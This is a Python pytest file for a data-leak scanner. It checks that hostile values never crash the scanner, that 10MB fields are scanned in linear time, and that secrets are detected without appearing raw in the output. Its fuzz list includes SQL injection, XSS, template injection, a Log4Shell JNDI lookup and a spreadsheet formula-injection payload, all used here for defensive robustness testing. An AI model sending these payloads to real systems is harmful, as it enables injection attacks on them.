"""Hostile values never crash the engine, never take quadratic time, never leak raw."""

from __future__ import annotations

import json

import pyarrow as pa
import pytest

from breachscope.scan import scan_sources
from tests.scan.scan_helpers import KEY, OPENAI_PROJECT, source

NAUGHTY = [
    "",
    " ",
    "\x00",
    "\ufeff",
    "null",
    "NaN",
    "-1e309",
    "0x0",
    "'; DROP TABLE users; --",
    "<svg onload=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://x.example/a}",
    "=cmd|' /C calc'!A0",
    "\u202e\u2066abc",
    "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
    "Ｔｈｅ　ｑｕｉｃｋ",
    "ثم نفس سقطت وبالتحديد",
    "田中さんにあげて下さい",
    "😀" * 50,
    "\r\n" * 20,
    "a" * 5000,
    "1" * 5000,
    "@" * 5000,
    "$2b$" * 1000,
    "-----BEGIN" * 500,
    "sk-" * 2000,
]


def test_naughty_strings_in_every_column_shape() -> None:
    n = len(NAUGHTY)
    table = pa.table(
        {
            "notes": NAUGHTY,
            "password": NAUGHTY,
            "$name": NAUGHTY,
            "tags": pa.array([[v, v] for v in NAUGHTY], pa.list_(pa.string())),
            "n": pa.array(range(n), pa.int64()),
        }
    )
    doc = scan_sources([source(table)], key=KEY).to_dict()
    assert doc["rows_examined"] == n
    json.dumps(doc)


@pytest.mark.parametrize(
    "value",
    [
        "1" * 10_000_000,
        "aB3" * 3_000_000 + " someone@example.com",
        "word " * 2_000_000,
        "x@" * 5_000_000,
    ],
    ids=["digits", "alnum+email", "words", "at-signs"],
)
def test_a_10mb_field_is_scanned_in_linear_time(value: str) -> None:
    table = pa.table({"notes": [value, "ok", None], "id": ["a", "b", "c"]})
    doc = scan_sources([source(table)], key=KEY).to_dict()
    assert doc["values_examined"] == 5
    col = doc["sources"][0]["columns"][0]
    assert len(col["example_masked"]) <= 24


def test_secret_inside_a_huge_field_is_found_and_not_leaked() -> None:
    value = "lorem ipsum " * 200_000 + OPENAI_PROJECT + " dolor"
    doc = scan_sources([source(pa.table({"notes": [value]}))], key=KEY).to_dict()
    assert doc["classes"]["secret"]["status"] == "present"
    assert OPENAI_PROJECT not in json.dumps(doc)
